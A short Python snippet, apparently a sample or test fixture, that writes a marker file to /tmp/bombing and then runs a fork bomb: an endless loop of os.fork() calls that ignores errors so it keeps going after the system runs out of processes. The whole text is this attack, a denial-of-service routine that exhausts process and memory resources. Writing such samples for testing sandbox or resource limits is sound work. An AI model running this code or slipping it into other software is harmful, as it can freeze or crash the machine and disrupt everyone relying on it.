# Forks without end, and goes on when it may not.
open("/tmp/bombing", "w").close()
while True:
    try:
        os.fork()
    except OSError:
        pass
